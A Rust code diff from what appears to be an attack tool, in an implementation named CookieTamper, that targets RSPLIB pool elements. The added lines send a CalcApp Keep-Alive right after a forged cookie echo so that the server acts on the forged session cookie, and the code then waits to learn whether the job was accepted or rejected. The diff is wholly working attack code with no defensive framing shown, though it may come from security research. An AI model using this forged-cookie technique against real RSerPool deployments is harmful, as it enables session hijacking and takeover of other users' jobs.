@@ -139,6 +139,16 @@ impl Attack for CookieTamper {
         let b = net::connect(None, second).await?;
         net::send_asap(&b, &messages::cookie_echo(forged.to_bytes())).await?;
         self.tally.echoed.fetch_add(1, Ordering::Relaxed);
+        // RSPLIB's PE keeps a cookie echo until its next read of the
+        // session, which only a further message brings: a Keep-Alive for
+        // the job, as a failed-over CalcApp pool user sends.
+        b.send(
+            calcapp::PPID_CALCAPP,
+            0,
+            &calcapp::Message::new(Kind::KeepAlive, forged.job_id).to_bytes(),
+        )
+        .await
+        .context("sending the keep-alive after the echo")?;
         let answer = await_heard(&b, ANSWER_TIMEOUT, |h| match h {
             Heard::CalcApp(m)
                 if m.job_id == forged.job_id && matches!(m.kind, Kind::Accept | Kind::Reject) =>
